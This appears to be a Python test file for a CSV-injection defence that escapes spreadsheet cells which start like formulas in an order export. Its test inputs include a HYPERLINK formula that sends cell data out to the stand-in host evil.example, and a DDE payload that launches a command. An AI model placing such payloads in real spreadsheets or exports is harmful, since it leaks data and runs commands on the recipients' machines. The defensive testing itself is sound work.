"""Spreadsheet cells (OWASP's CSV-injection rule): a cell that starts like a
formula becomes text with a leading ', numbers stay numbers, nothing else changes."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from app.services.orders.export_safety import FORMULA_STARTS, spreadsheet_cell, spreadsheet_row


def test_formula_starts_get_a_leading_quote():
    for cell in (
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
    ):
        assert spreadsheet_cell(cell) == "'" + cell


def test_numbers_and_plain_text_are_left_alone():
    for cell in ("-12.50", "+3", "-1,5", "12", "Ada Okafor", "a=b", " =x", "", "'quoted"):
        assert spreadsheet_cell(cell) == cell
    assert spreadsheet_cell(None) == "" and spreadsheet_cell(-3) == "-3"
    assert spreadsheet_row(["=1", 2, None]) == ["'=1", "2", ""]


@given(st.text(max_size=40))
def test_no_cell_starts_like_a_formula_and_the_text_is_kept(text):
    cell = spreadsheet_cell(text)
    assert cell in (text, "'" + text)
    if cell.startswith(FORMULA_STARTS):
        float(cell.replace(",", "."))  # only a plain number may
    written = io.StringIO()
    csv.writer(written).writerow([cell])
    assert next(csv.reader(io.StringIO(written.getvalue()))) == [cell]
